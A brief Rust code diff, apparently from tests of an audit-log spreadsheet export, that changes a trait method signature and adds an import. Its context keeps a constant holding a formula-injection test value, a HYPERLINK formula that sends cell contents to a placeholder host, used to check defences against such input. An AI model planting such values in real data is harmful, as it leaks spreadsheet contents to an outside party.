@@ -8,7 +8,7 @@ use domain::ids::{CaseId, FirmId, UserId};
 use super::ground::Ground;
 use super::{Seen, Verdict, cannot};
 use crate::Backend;
-use crate::audit::{Book, COLUMNS, InWords, Order, Told};
+use crate::audit::{Book, COLUMNS, InWords, LogKind, Order, Told};
 
 /// A case's title as somebody would write it who wants a spreadsheet to call home.
 const HOSTILE: &str = "=HYPERLINK(\"https://check.invalid/?\"&A1);@SUM(1)";
@@ -17,7 +17,7 @@ const HOSTILE: &str = "=HYPERLINK(\"https://check.invalid/?\"&A1);@SUM(1)";
 struct Bare;
 
 impl InWords for Bare {
-    fn title(&self) -> &'static str {
+    fn title(&self, _: LogKind) -> &'static str {
         "check"
     }
 
